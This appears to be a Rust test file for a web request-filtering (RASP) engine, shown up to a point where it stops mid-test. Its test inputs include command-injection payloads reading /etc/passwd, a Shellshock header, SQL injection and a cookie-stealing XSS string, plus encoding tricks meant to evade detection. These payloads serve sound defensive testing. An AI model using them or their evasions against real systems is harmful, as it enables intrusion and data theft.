//! The whole pipeline, through the public API: each check, each level,
//! each evasion, and robustness against arbitrary input.

use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use proptest::prelude::*;
use rasp_core::{
    Check, Config, Event, Level, Location, Rasp, Request, Response, RouteHint, RouteTable,
    ValueDetector, Verdict,
};

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

/// Every default check at level 1 (so one detection does not blacklist the
/// test's source for the next assertion), request validation off.
fn quiet() -> Config {
    Config {
        security_checks: rasp_core::SecurityChecks {
            path: Level::Off,
            flood: Level::Block,
            decoy: Level::Block,
            sqli: Level::Block,
            xss: Level::Block,
            hpp: Level::Block,
            command: Level::Block,
            ..Default::default()
        },
        ..Config::default()
    }
}

/// [`quiet`] with the data-leak check on card numbers, and `/static/`
/// ignored: what the exchange tests judge responses under.
fn cards_checked_static_ignored() -> Config {
    let mut cfg = quiet();
    cfg.security_checks.dlp = Level::Block;
    cfg.dlp_cc_numbers = true;
    cfg.ignore_paths = vec!["^/static/".into()];
    cfg
}

fn now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn rasp(cfg: Config) -> Rasp {
    Rasp::new(cfg).unwrap()
}

fn get(target: &str) -> Request {
    Request::new("GET", target, ip("198.51.100.10"))
}

/// [`quiet`] with the flood check off and one check set by `set`.
fn quiet_with_check(set: impl FnOnce(&mut rasp_core::SecurityChecks)) -> Rasp {
    let mut cfg = quiet();
    cfg.security_checks.flood = Level::Off;
    set(&mut cfg.security_checks);
    rasp(cfg)
}

fn blocked(r: &Rasp, req: &Request) -> Option<(Check, Location, String)> {
    match r.check_request(req) {
        Verdict::Block(d) => Some((d.check, d.location, d.payload)),
        Verdict::Allow => None,
    }
}

#[test]
fn benign_request_passes() {
    let r = rasp(quiet());
    let req = get("/search?q=hello+world&page=2&sort=price%20asc")
        .with_header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        )
        .with_header("Cookie", "session=abc123; theme=dark")
        .with_header("Referer", "https://example.com/?a=1&b=2");
    assert_eq!(r.check_request(&req), Verdict::Allow);
}

/// Names and prose with apostrophes are left out before any detector (the
/// plain-value test); a payload beside them, or after the same name
/// repeated, is still judged, in a form and in a JSON body.
#[test]
fn apostrophe_values_pass_and_hide_nothing() {
    let r = rasp(quiet());
    let post = |ct: &str, body: &str| {
        Request::new("POST", "/signup", ip("198.51.100.10"))
            .with_header("Content-Type", ct)
            .with_body(body.to_string(), false)
    };
    let form = "application/x-www-form-urlencoded";
    let json = "application/json";
    assert_eq!(
        r.check_request(&post(form, "name=Jane+O%27Brien&note=don%27t+stop")),
        Verdict::Allow
    );
    let note = "Ships in 2-3 days, O'Brien's choice";
    let items: Vec<String> = (0..20)
        .map(|i| format!(r#"{{"id": {i}, "note": "{note}"}}"#))
        .collect();
    let order = format!(r#"{{"items": [{}]}}"#, items.join(", "));
    assert_eq!(r.check_request(&post(json, &order)), Verdict::Allow);
    for (ct, body, location) in [
        (
            form,
            "name=Jane+O%27Brien&name2=Jane%27+or+%271%27%3D%271%27--",
            Location::PostValues,
        ),
        (
            form,
            "a=it%27s&b=x%27+union+select+password+from+users--",
            Location::PostValues,
        ),
        (
            json,
            r#"{"a": "O'Brien", "b": "O'Brien", "c": "Jane' or '1'='1'--"}"#,
            Location::JsonValues,
        ),
        (
            json,
            &order.replace(
                r#"{"id": 7, "note": "Ships"#,
                r#"{"id": 7, "note": "x' union select password from users-- Ships"#,
            ),
            Location::JsonValues,
        ),
    ] {
        let found = blocked(&r, &post(ct, body));
        assert!(
            matches!(&found, Some((Check::Sqli, l, _)) if *l == location),
            "{body}: {found:?}"
        );
    }
}

#[test]
fn command_injection_in_every_location() {
    let r = rasp(quiet());
    let p = "%3B%20cat%20%2Fetc%2Fpasswd";
    let cases: Vec<(Request, Location)> = vec![
        (get(&format!("/x?q={p}")), Location::QsValues),
        (get(&format!("/x?{p}=1")), Location::QsVariables),
        (get(&format!("/x/{p}")), Location::Path),
        (get("/x").with_header("Cookie", &format!("c={p}")), Location::Cookies),
        (get("/x").with_header("User-Agent", "() { :; }; /bin/bash -c id"), Location::UserAgent),
        (get("/x").with_header("Referer", &format!("http://a/?x={p}")), Location::Referer),
        (
            Request::new("POST", "/x", ip("198.51.100.10"))
                .with_header("Content-Type", "application/x-www-form-urlencoded")
                .with_body(format!("host=127.0.0.1{p}"), false),
            Location::PostValues,
        ),
        (
            Request::new("POST", "/x", ip("198.51.100.10"))
                .with_header("Content-Type", "application/json")
                .with_body(r#"{"a": {"b": ["ok", "x | id"]}}"#, false),
            Location::JsonValues,
        ),
        (
            Request::new("POST", "/x", ip("198.51.100.10"))
                .with_header("Content-Type", "application/json")
                .with_body(r#"{"$(whoami)": 1}"#, false),
            Location::JsonKeys,
        ),
        (
            Request::new("POST", "/x", ip("198.51.100.10"))
                .with_header("Content-Type", "multipart/form-data; boundary=b")
                .with_body("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n`uname -a`\r\n--b--\r\n", false),
            Location::PostValues,
        ),
    ];
    for (req, loc) in cases {
        let got = blocked(&r, &req);
        assert_eq!(
            got.as_ref().map(|g| (g.0, g.1)),
            Some((Check::Command, loc)),
            "{req:?}"
        );
    }
}

#[test]
fn command_evasions_are_decoded() {
    let r = rasp(quiet());
    for q in [
        "q=%253B%2520cat%2520%252Fetc%252Fpasswd", // double URL encoding
        "q=;+cat+/etc/passwd",                     // + as space
        "q=%0aid",                                 // newline
        "q=%26%2359%3B%20id",                      // HTML entity &#59; = ;
        "q=%5Cu003b%20id",                         // \u003b
        "q=%EF%BC%9B%20id",                        // full-width semicolon
        "q=OyBjYXQgL2V0Yy9wYXNzd2Q%3D",            // base64 of "; cat /etc/passwd"
        "q=%3B%24%7BIFS%7Dcat%24%7BIFS%7D%2Fetc%2Fpasswd",
    ] {
        let got = blocked(&r, &get(&format!("/x?{q}")));
        assert_eq!(got.map(|g| g.0), Some(Check::Command), "{q}");
    }
    // Base64 is judged only when DECODE_B64 is on.
    let r = rasp(Config {
        decode_b64: false,
        ..quiet()
    });
    assert_eq!(
        r.check_request(&get("/x?q=OyBjYXQgL2V0Yy9wYXNzd2Q%3D")),
        Verdict::Allow
    );
}

#[test]
fn benign_near_misses_pass() {
    let r = rasp(quiet());
    for q in [
        "q=Tom+%26+Jerry%3B+cats+and+dogs",
        "q=a%7Cb",
        "q=%24(5)",
        "q=O%27Brien",
        "q=select+your+plan",
        "name=dXNlcm5hbWU%3D", // base64 of "username"
        "id=550e8400-e29b-41d4-a716-446655440000",
        "q=100%25+sure",
        "email=jane.doe%2Btag%40example.com",
    ] {
        assert_eq!(
            r.check_request(&get(&format!("/x?{q}"))),
            Verdict::Allow,
            "{q}"
        );
    }
}

#[test]
fn level_two_blacklists_level_one_does_not() {
    let r = rasp(quiet()); // command: 1
    assert!(r.check_request(&get("/x?q=;id")).is_block());
    assert_eq!(r.check_request(&get("/x?q=fine")), Verdict::Allow);

    let mut cfg = quiet();
    cfg.security_checks.command = Level::Blacklist;
    let r = rasp(cfg);
    let v = r.check_request(&get("/x?q=;id"));
    assert!(v.detection().unwrap().blacklisted);
    let (c, l, p) = blocked(&r, &get("/x?q=fine")).unwrap();
    assert_eq!(
        (c, l, p.as_str()),
        (Check::Blacklist, Location::SourceIp, "198.51.100.10")
    );
    // Another source is not affected.
    assert_eq!(
        r.check_request(&Request::new("GET", "/x", ip("198.51.100.11"))),
        Verdict::Allow
    );
    // BLACKLIST_OVERRIDE lets the blacklisted source through.
    let mut cfg = quiet();
    cfg.security_checks.command = Level::Blacklist;
    cfg.blacklist_override = true;
    r.set_config(cfg).unwrap();
    assert_eq!(r.check_request(&get("/x?q=fine")), Verdict::Allow);
}

#[test]
fn ignore_paths_and_whitelist_bypass_everything() {
    let mut cfg = quiet();
    cfg.ignore_paths = vec!["^/static/".into()];
    cfg.whitelist = vec!["10.0.0.0/8".into()];
    let r = rasp(cfg);
    assert_eq!(r.check_request(&get("/static/a.css?q=;id")), Verdict::Allow);
    // A dot-segment cannot ride on an ignore path.
    assert!(r.check_request(&get("/static/../api?q=;id")).is_block());
    let trusted = Request::new("GET", "/x?q=;id", ip("10.1.2.3"));
    assert_eq!(r.check_request(&trusted), Verdict::Allow);
    assert_eq!(
        r.check_request(&get("/favicon.ico?q=;id"))
            .detection()
            .map(|d| d.check),
        Some(Check::Command)
    );
}

#[test]
fn flood_trips_after_ratio() {
    let mut cfg = quiet();
    cfg.flood_ratio = 5;
    cfg.security_checks.flood = Level::Block;
    let r = rasp(cfg);
    for i in 0..5 {
        assert_eq!(r.check_request(&get("/x")), Verdict::Allow, "request {i}");
    }
    assert_eq!(blocked(&r, &get("/x")).map(|g| g.0), Some(Check::Flood));
    // Paths outside BRUTE_AND_FLOOD_PATHS are not counted.
    let mut cfg = quiet();
    cfg.flood_ratio = 2;
    cfg.brute_and_flood_paths = vec!["^/login".into()];
    let r = rasp(cfg);
    for _ in 0..10 {
        assert_eq!(r.check_request(&get("/x")), Verdict::Allow);
    }
    r.check_request(&get("/login"));
    r.check_request(&get("/login"));
    assert!(r.check_request(&get("/login")).is_block());
}

#[test]
fn error_flood_trips() {
    let mut cfg = quiet();
    cfg.error_flood_ratio = 3;
    cfg.security_checks.flood = Level::Blacklist;
    let r = rasp(cfg);
    let req = get("/missing");
    for _ in 0..3 {
        assert_eq!(r.check_response(&req, &Response::new(404)), Verdict::Allow);
    }
    let v = r.check_response(&req, &Response::new(404));
    assert_eq!(v.detection().map(|d| d.check), Some(Check::Flood));
    assert!(v.detection().unwrap().blacklisted);
    assert!(r.check_request(&get("/ok")).is_block());
    assert_eq!(r.stats().snapshot().errors, 4);
}

#[test]
fn spoofing_headers_decoy_path_hpp() {
    let mut cfg = quiet();
    cfg.hosts = vec!["shop.example.com".into()];
    cfg.security_checks.spoofing = Level::Block;
    cfg.security_checks.headers = Level::Block;
    cfg.security_checks.path = Level::Block;
    cfg.security_checks.decoy = Level::Block;
    let mut routes = RouteTable::new();
    routes
        .add(&["GET"], "/")
        .add(&["GET", "POST"], "/api/{id}")
        .add(&["GET"], "/login");
    let r = Rasp::builder().config(cfg).routes(routes).build().unwrap();
    let host = |req: Request| req.with_header("Host", "shop.example.com:8443");

    assert_eq!(r.check_request(&host(get("/api/3"))), Verdict::Allow);
    assert_eq!(
        blocked(&r, &get("/api/3").with_header("Host", "evil.test")).map(|g| g.0),
        Some(Check::Spoofing)
    );
    assert_eq!(
        blocked(
            &r,
            &host(get("/api/3")).with_header("X-Original-URL", "/admin")
        )
        .map(|g| (g.0, g.1)),
        Some((Check::Headers, Location::HeadersNames))
    );
    assert_eq!(
        blocked(&r, &host(get("/nowhere"))).map(|g| (g.0, g.1)),
        Some((Check::Path, Location::Path))
    );
    let del = Request::new("DELETE", "/api/3", ip("198.51.100.10"))
        .with_header("Host", "shop.example.com");
    assert_eq!(
        blocked(&r, &del).map(|g| (g.0, g.1)),
        Some((Check::Path, Location::Request))
    );
    assert_eq!(
        blocked(&r, &host(get("/.env"))).map(|g| g.0),
        Some(Check::Decoy)
    );
    assert_eq!(
        blocked(&r, &host(get("/%2egit/config"))).map(|g| g.0),
        Some(Check::Decoy)
    );
    // The application's own /login is not a decoy.
    assert_eq!(r.check_request(&host(get("/login"))), Verdict::Allow);
    // The adapter's router decision wins over the table.
    assert_eq!(
        r.check_request(&host(get("/dynamic")).with_route(RouteHint::Matched)),
        Verdict::Allow
    );
    assert_eq!(
        blocked(&r, &host(get("/api/1?a=1&a=2"))).map(|g| g.0),
        Some(Check::Hpp)
    );
    let cross = Request::new("POST", "/api/1?a=1", ip("198.51.100.10"))
        .with_header("Host", "shop.example.com")
        .with_header("Content-Type", "application/x-www-form-urlencoded")
        .with_body("a=2", false);
    assert_eq!(
        blocked(&r, &cross).map(|g| (g.0, g.1)),
        Some((Check::Hpp, Location::PostVariables))
    );
}

#[test]
fn form_body_split_character_is_judged_as_the_application_sees_it() {
    // A raw lead byte followed by percent-encoded continuation bytes: the
    // body is not UTF-8, but once decoded `\xEF%BC%87` is the full-width
    // apostrophe, which NFKC turns into `'`.
    let mut cfg = quiet();
    cfg.security_checks.sqli = Level::Block;
    let r = rasp(cfg);
    let mut body = b"name=1".to_vec();
    body.push(0xEF);
    body.extend_from_slice(b"%BC%87+or+1%3D1--");
    let req = Request::new("POST", "/account", ip("198.51.100.11"))
        .with_header("Content-Type", "application/x-www-form-urlencoded")
        .with_body(body, false);
    assert_eq!(
        blocked(&r, &req).map(|g| (g.0, g.1)),
        Some((Check::Sqli, Location::PostValues))
    );
}

#[test]
fn data_leak_on_response() {
    let mut cfg = quiet();
    cfg.security_checks.dlp = Level::Block;
    cfg.dlp_cc_numbers = true;
    let r = rasp(cfg);
    let req = get("/order");
    let leak = Response::new(200)
        .with_header("Content-Type", "text/html")
        .with_body("<p>Card: 4111-1111-1111-1111</p>");
    let v = r.check_response(&req, &leak);
    let d = v.detection().expect("leak blocked");
    assert_eq!((d.check, d.location), (Check::Dlp, Location::Content));
    // The log does not repeat the card number.
    assert!(!d.payload.contains("4111-1111-1111-1111"), "{}", d.payload);
    let image = Response::new(200)
        .with_header("Content-Type", "image/png")
        .with_body("4111-1111-1111-1111");
    assert_eq!(r.check_response(&req, &image), Verdict::Allow);
    assert_eq!(
        r.check_response(&req, &Response::new(200).with_body("no card")),
        Verdict::Allow
    );
}

/// A file read through a path traversal and served by a JSON API is one
/// string whose lines are joined by `\n` escapes: its credential lines are
/// found all the same (they passed before the seventeenth session).
#[test]
fn credentials_leaked_through_a_json_api() {
    let mut cfg = quiet();
    cfg.security_checks.dlp = Level::Block;
    cfg.dlp_linux_creds = true;
    let r = rasp(cfg);
    let req = get("/api/files?name=report.txt");
    let file = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
    let body = serde_json::json!({"name": "report.txt", "content": file}).to_string();
    for ct in [
        "application/json",
        "application/problem+json; charset=utf-8",
        "text/javascript",
    ] {
        let resp = Response::new(200)
            .with_header("Content-Type", ct)
            .with_body(body.clone());
        let v = r.check_response(&req, &resp);
        let d = v.detection().unwrap_or_else(|| panic!("{ct}: passed"));
        assert_eq!(d.check, Check::Dlp);
        assert!(
            d.payload.starts_with("linux credentials: daem"),
            "{}",
            d.payload
        );
        // The match ends with the line, not in the JSON after it.
        assert!(d.payload.ends_with("ogin"), "{}", d.payload);
        // The same through an adapter's head, which keeps the type's
        // judgement rather than the header.
        let ex = r.exchange(&req);
        let (head, wants) = ex.response_head(200, Some(ct), None);
        assert!(wants, "{ct}");
        let v = ex.check_response(&head.with_body(body.clone()));
        let d = v
            .detection()
            .unwrap_or_else(|| panic!("{ct} (head): passed"));
        assert!(
            d.payload.starts_with("linux credentials: daem"),
            "{}",
            d.payload
        );
    }
    // The same text as a page is the characters backslash and n: no line.
    let page = r#"<code>"x\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin"</code>"#;
    let escaped_in_html = Response::new(200)
        .with_header("Content-Type", "text/html")
        .with_body(page);
    assert_eq!(r.check_response(&req, &escaped_in_html), Verdict::Allow);
    let ex = r.exchange(&req);
    let (head, _) = ex.response_head(200, Some("text/html"), None);
    assert_eq!(ex.check_response(&head.with_body(page)), Verdict::Allow);
}

#[test]
fn trusted_proxy_rule_decides_the_source() {
    let mut cfg = quiet();
    cfg.security_checks.command = Level::Blacklist;
    cfg.trusted_proxies = vec!["127.0.0.1".into()];
    let r = rasp(cfg);
    let via_proxy = Request::new("GET", "/x?q=;id", ip("127.0.0.1"))
        .with_header("X-Forwarded-For", "203.0.113.50");
    assert!(r.check_request(&via_proxy).is_block());
    assert!(r.blacklist().contains(ip("203.0.113.50"), now()));
    assert!(!r.blacklist().contains(ip("127.0.0.1"), now()));
    // A direct client cannot pick its address.
    let direct = Request::new("GET", "/x?q=;id", ip("198.51.100.99"))
        .with_header("X-Forwarded-For", "192.0.2.1");
    assert!(r.check_request(&direct).is_block());
    assert!(!r
        .blacklist()
        .entries(0)
        .iter()
        .any(|(a, _)| *a == ip("192.0.2.1")));
    assert!(r.blacklist().contains(ip("198.51.100.99"), now()));
}

#[test]
fn config_swap_is_atomic_and_validated() {
    let r = rasp(quiet());
    assert!(r.check_request(&get("/x?q=;id")).is_block());
    let mut cfg = quiet();
    cfg.security_checks.command = Level::Off;
    cfg.deny_status_code = 406;
    r.set_config(cfg).unwrap();
    assert_eq!(r.deny().0, 406);
    assert_eq!(
        r.check_request(&Request::new("GET", "/x?q=;id", ip("198.51.100.77"))),
        Verdict::Allow
    );
    let bad = Config {
        ignore_paths: vec!["(".into()],
        ..quiet()
    };
    assert!(r.set_config(bad).is_err());
    assert_eq!(r.deny().0, 406, "a refused config changes nothing");

    // Swapping under concurrent traffic: every request gets a verdict.
    let r2 = r.clone();
    let t = std::thread::spawn(move || {
        for i in 0..2000u32 {
            let req = Request::new(
                "GET",
                "/x?q=hello",
                IpAddr::from([10, 9, (i >> 8) as u8, i as u8]),
            );
            let _ = r2.check_request(&req);
        }
    });
    for i in 0..200 {
        let mut c = quiet();
        c.deny_status_code = 400 + (i % 50);
        r.set_config(c).unwrap();
    }
    t.join().unwrap();
}

/// An exchange judges as the engine's own methods do, under the
/// configuration live when it began until its response is judged, and an
/// exempt one passes whatever it carries.
#[test]
fn an_exchange_keeps_its_configuration_and_exemption() {
    let mut cfg = cards_checked_static_ignored();
    cfg.deny_status_code = 403;
    let r = rasp(cfg);
    let leak = Response::new(200)
        .with_header("Content-Type", "text/html")
        .with_body("<p>Card: 4111-1111-1111-1111</p>");

    let attack = get("/x?q=;id");
    let ex = r.exchange(&attack);
    assert!(!ex.is_exempt());
    assert_eq!(ex.client_ip(), ip("198.51.100.10"));
    assert_eq!(
        ex.check_request(&attack).detection().map(|d| d.check),
        Some(Check::Command)
    );

    let page = get("/order");
    let ex = r.exchange(&page);
    assert_eq!(ex.check_request(&page), Verdict::Allow);
    // The configuration changes while the application answers: this
    // exchange finishes under the one it began with.
    let mut off = quiet();
    off.security_checks.dlp = Level::Off;
    off.deny_status_code = 406;
    r.set_config(off).unwrap();
    assert!(ex.wants_response_body(Some("text/html"), None));
    assert_eq!(
        ex.check_response(&leak).detection().map(|d| d.check),
        Some(Check::Dlp)
    );
    assert_eq!(ex.deny().0, 403);
    // The next one begins under the new configuration.
    let ex = r.exchange(&page);
    assert!(!ex.wants_response_body(Some("text/html"), None));
    assert_eq!(ex.check_response(&leak), Verdict::Allow);
    assert_eq!(ex.deny().0, 406);

    // Exempt: nothing is judged, and no body is asked for.
    let mut cfg = cards_checked_static_ignored();
    cfg.security_checks.path = Level::Block;
    r.set_config(cfg).unwrap();
    assert!(r
        .exchange(&page)
        .route_refused(&page, RouteHint::MethodNotAllowed)
        .is_block());
    let ignored = get("/static/a.css?q=;id");
    let ex = r.exchange(&ignored);
    assert!(ex.is_exempt());
    assert_eq!(ex.check_request(&ignored), Verdict::Allow);
    assert!(!ex.wants_response_body(Some("text/html"), None));
    assert_eq!(ex.check_response(&leak), Verdict::Allow);
    assert_eq!(
        ex.route_refused(&ignored, RouteHint::MethodNotAllowed),
        Verdict::Allow
    );
    // The same request through the engine's own methods: the same answers.
    assert_eq!(r.check_request(&ignored), Verdict::Allow);
    assert!(r.check_request(&attack).is_block());
    assert!(r.check_response(&page, &leak).is_block());
}

/// The response an adapter makes before the body: the two headers the
/// data-leak check reads, only when that check wants the body and there is
/// an encoding to undo (otherwise only the type's judgement is kept); with
/// the body read, it is judged as a response built by hand.
#[test]
fn a_response_head_carries_what_the_leak_check_reads() {
    let r = rasp(cards_checked_static_ignored());
    let page = get("/order");
    let ex = r.exchange(&page);

    let (head, wants) = ex.response_head(200, Some("text/html; charset=utf-8"), Some("gzip"));
    assert!(wants);
    assert_eq!(head.status, 200);
    assert_eq!(
        head.headers().collect::<Vec<_>>(),
        [
            ("content-type", "text/html; charset=utf-8"),
            ("content-encoding", "gzip")
        ]
    );
    // A page, and a form echoed back (its type judged once, by its head).
    for (ct, body) in [
        ("text/html", "<p>Card: 4111-1111-1111-1111</p>"),
        (
            "application/x-www-form-urlencoded",
            "card=4111-1111-1111-1111",
        ),
    ] {
        let (head, wants) = ex.response_head(200, Some(ct), None);
        assert!(wants, "{ct}");
        let leak = head.with_body(body);
        assert_eq!(
            ex.check_response(&leak).detection().map(|d| d.check),
            Some(Check::Dlp),
            "{ct}"
        );
    }

    // An image is not read: no body, no headers to carry.
    let (head, wants) = ex.response_head(404, Some("image/png"), None);
    assert!(!wants);
    assert_eq!(head.status, 404);
    assert_eq!(head.headers().len(), 0);
    // A scannable head whose headers are changed after it into an image's
    // is judged by its headers again, not by the head's judgement.
    let (mut head, _) = ex.response_head(200, None, None);
    head.push_header("content-type", "image/png");
    assert!(!ex
        .check_response(&head.with_body("4111-1111-1111-1111"))
        .is_block());
    // Nor anything of an exempt request.
    let ignored = get("/static/a.css");
    let (head, wants) = r
        .exchange(&ignored)
        .response_head(200, Some("text/html"), None);
    assert!(!wants);
    assert_eq!(head.headers().len(), 0);
}

#[test]
fn events_carry_reference_fields() {
    let seen: Arc<Mutex<Vec<Event>>> = Arc::default();
    let s = seen.clone();
    let mut cfg = quiet();
    cfg.app_name = "shop".into();
    cfg.max_body_size = 16;
    let r = Rasp::builder()
        .config(cfg)
        .observer(move |e| s.lock().unwrap().push(e.clone()))
        .build()
        .unwrap();
    let req = Request::new("POST", "/x", ip("198.51.100.10"))
        .with_header("Content-Type", "text/plain")
        .with_body("a; cat /etc/pas", true);
    assert!(r.check_request(&req).is_block());
    let ev = seen.lock().unwrap()[0].clone();
    assert_eq!(ev.application, "shop");
    assert_eq!(ev.event_type, Check::Command);
    assert_eq!(ev.location, Location::PostValues);
    assert!(ev.body_truncated);
    assert!(ev.syslog_line().contains("\"command\" - \"198.51.100.10\""));
    assert_eq!(ev.json()["body_truncated"], true);
}

struct FakeSqli;
impl ValueDetector for FakeSqli {
    fn check(&self) -> Check {
        Check::Sqli
    }
    fn score(&self, v: &str) -> f64 {
        if v.to_ascii_lowercase().contains("union select") {
            0.99
        } else {
            0.01
        }
    }
}

#[test]
fn plugged_detector_honours_threshold_and_min_len() {
    let mut cfg = quiet();
    cfg.min_sqli_len = 16;
    let r = Rasp::builder()
        .config(cfg)
        .without_builtin_detectors()
        .detector(Arc::new(FakeSqli))
        .build()
        .unwrap();
    let v = r.check_request(&get("/x?id=1%20UNION%20SELECT%20password%20FROM%20users"));
    let d = v.detection().unwrap();
    assert_eq!(
        (d.check, d.location, d.name.as_str()),
        (Check::Sqli, Location::QsValues, "id")
    );
    // Shorter than MIN_SQLI_LEN (16): not scored.
    assert_eq!(
        r.check_request(&get("/x?id=union%20select")),
        Verdict::Allow
    );
    let mut cfg = quiet();
    cfg.min_sqli_len = 16;
    cfg.security_checks.sqli = Level::Off;
    r.set_config(cfg).unwrap();
    assert_eq!(
        r.check_request(&get("/x?id=1%20UNION%20SELECT%20password%20FROM%20users")),
        Verdict::Allow
    );
}

#[test]
fn million_sources_stay_bounded() {
    let mut cfg = quiet();
    cfg.max_tracked_sources = 1000;
    cfg.security_checks.command = Level::Blacklist;
    let r = rasp(cfg);
    for n in 0..50_000u32 {
        let req = Request::new("GET", "/x?q=;id", IpAddr::from(n.to_be_bytes()));
        assert!(r.check_request(&req).is_block());
    }
    assert!(r.blacklist().len() <= 1024, "{}", r.blacklist().len());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
    #[test]
    fn never_panics_on_arbitrary_requests(
        method in "\\PC{0,8}",
        target in "\\PC{0,64}",
        headers in proptest::collection::vec(("[a-zA-Z-]{1,12}", "\\PC{0,40}"), 0..6),
        ct in prop_oneof![
            Just("application/json"), Just("application/x-www-form-urlencoded"),
            Just("multipart/form-data; boundary=x"), Just("text/plain"), Just(""), Just("application/xml")
        ],
        body in proptest::collection::vec(any::<u8>(), 0..512),
        truncated in any::<bool>(),
        status in 100u16..600,
    ) {
        let r = rasp(Config { security_checks: rasp_core::SecurityChecks { dlp: Level::Block, spoofing: Level::Block, headers: Level::Block, ..Default::default() }, hosts: vec!["a".into()], dlp_cc_numbers: true, dlp_hashes: true, dlp_phone_numbers: true, dlp_linux_creds: true, dlp_private_keys: true, dlp_windows_creds: true, ..Config::default() });
        let mut req = Request::new(&method, &target, ip("192.0.2.9")).with_header("Content-Type", ct);
        for (k, v) in &headers { req.push_header(k, v); }
        let req = req.with_body(body.clone(), truncated);
        let _ = r.check_request(&req);
        let _ = r.check_response(&req, &Response::new(status).with_body(body));
    }

    #[test]
    fn decoders_never_panic(s in "\\PC{0,200}") {
        let _ = rasp_core::decode::normalize(&s);
        let _ = rasp_core::decode::variants(&s, true);
    }
}

#[test]
fn clean_value_cache_never_outlives_its_configuration() {
    let mut cfg = quiet();
    cfg.security_checks.xss = Level::Off;
    let r = rasp(cfg);
    let ua = "<script>alert(document.cookie)</script>";
    let req = get("/x").with_header("User-Agent", ua);
    // Judged clean while XSS is off (and cached as such)...
    assert_eq!(r.check_request(&req), Verdict::Allow);
    assert_eq!(r.check_request(&req), Verdict::Allow);
    // ...then XSS is switched on: the cached verdict must not hold.
    r.set_config(quiet()).unwrap();
    let v = r.check_request(&req);
    assert_eq!(
        v.detection().map(|d| (d.check, d.location)),
        Some((Check::Xss, Location::UserAgent))
    );
    // A clean value seen before does not make a different one clean.
    let ok = get("/x").with_header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");
    assert_eq!(r.check_request(&ok), Verdict::Allow);
    let bad = get("/x").with_header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)' or 1=1--");
    assert!(r.check_request(&bad).is_block());
}

#[test]
fn json_repeated_keys_and_escapes_are_all_judged() {
    let r = rasp(quiet());
    let post = |body: &str| {
        Request::new("POST", "/api", ip("198.51.100.10"))
            .with_header("Content-Type", "application/json")
            .with_body(body.to_string(), false)
    };
    // A parser that keeps the last of two equal keys would never see the first value.
    match r.check_request(&post(
        r#"{"opts": {"cmd": "x; cat /etc/passwd", "cmd": "x"}}"#,
    )) {
        Verdict::Block(d) => {
            assert_eq!(
                (d.check, d.location),
                (Check::Command, Location::JsonValues)
            );
            assert_eq!(d.name, "opts.cmd");
        }
        Verdict::Allow => panic!("first of two repeated keys was not judged"),
    }
    // The payload behind JSON string escapes is judged decoded.
    assert_eq!(
        blocked(&r, &post(r#"{"cmd": "x\u003b cat \/etc\/passwd"}"#)).map(|b| (b.0, b.1)),
        Some((Check::Command, Location::JsonValues))
    );
    assert_eq!(blocked(&r, &post(r#"{"cmd": "x", "cmd": "y"}"#)), None);
}

#[test]
fn large_json_bodies_are_judged_to_the_end() {
    let r = rasp(quiet());
    let post = |body: String| {
        Request::new("POST", "/api", ip("198.51.100.10"))
            .with_header("Content-Type", "application/json")
            .with_body(body, false)
    };
    // More distinct values than the per-request memory of judged texts
    // holds, then a payload.
    let values: Vec<String> = (0..10_000).map(|i| format!("\"note {i}\"")).collect();
    let payload = "\"x; cat /etc/passwd\"";
    let body = format!("[{}, {payload}]", values.join(", "));
    assert_eq!(
        blocked(&r, &post(body)).map(|b| (b.0, b.1)),
        Some((Check::Command, Location::JsonValues))
    );
    // Cut part-way: the values before the cut are judged as JSON values.
    let cut = format!("[{}, {payload}, \"more", values[..50].join(", "));
    match r.check_request(&post(String::new()).with_body(cut, true)) {
        Verdict::Block(d) => {
            assert_eq!(
                (d.check, d.location, d.body_truncated),
                (Check::Command, Location::JsonValues, true)
            );
            assert_eq!(d.name, "[50]");
        }
        Verdict::Allow => panic!("payload before the cut was not judged"),
    }
}

/// A wildcard route (axum's `/files/*rest`) hands the application its path
/// segments joined; judged one at a time, none of these reads as anything.
#[test]
fn a_path_is_judged_whole_as_a_wildcard_route_reads_it() {
    let r = rasp(quiet());
    for target in [
        "/files/1'/**/union/**/select/**/password/**/from/**/users--",
        "/files/x'/**/or/**/'1'='1",
    ] {
        let (check, location, _) = blocked(&r, &get(target)).expect(target);
        assert_eq!((check, location), (Check::Sqli, Location::Path), "{target}");
    }
    for benign in [
        "/api/items/42",
        "/docs/My%20File%20(v2).pdf",
        "/blog/2024/05/o'brien-s-guide",
        "/search/what%20is%20a%20sql%20join%3F/1",
        "/shop/category/men's-shoes/sale",
    ] {
        assert_eq!(blocked(&r, &get(benign)), None, "{benign}");
    }
}

/// A body longer than `MAX_BODY_SIZE` is judged on its first part only:
/// padding, then a payload, would reach the handler unjudged. One the
/// application reads as values is refused (`format`); an upload passes.
#[test]
fn bodies_longer_than_the_limit_are_refused_unless_uploads() {
    use std::io::Write;
    let mut cfg = quiet();
    cfg.max_body_size = 1024;
    let r = rasp(cfg.clone());
    // What an adapter hands over for a longer body: its first 1,024 bytes,
    // marked cut.
    let cut = |ct: Option<&str>, first: &[u8]| {
        let mut body = first.to_vec();
        body.resize(1024, b' ');
        let req = Request::new("POST", "/api", ip("198.51.100.10"));
        let req = match ct {
            Some(ct) => req.with_header("Content-Type", ct),
            None => req,
        };
        req.with_body(body, true)
    };
    let refused = |req: &Request| match r.check_request(req) {
        Verdict::Block(d) => {
            assert_eq!((d.check, d.location), (Check::Format, Location::PostValues));
            assert!(d.body_truncated);
            assert!(d.payload.contains("1024"), "{}", d.payload);
            true
        }
        Verdict::Allow => false,
    };
    for (ct, first) in [
        (Some("application/json"), &b"{\"items\": [\"a\""[..]),
        (Some("application/vnd.api+json"), b"{"),
        (Some("application/x-www-form-urlencoded"), b"note=a"),
        (Some("text/plain; charset=utf-8"), b"hello"),
        (Some("text/csv"), b"a,b,c"),
        (Some("application/xml"), b"<order>"),
        (None, b"note=a"),
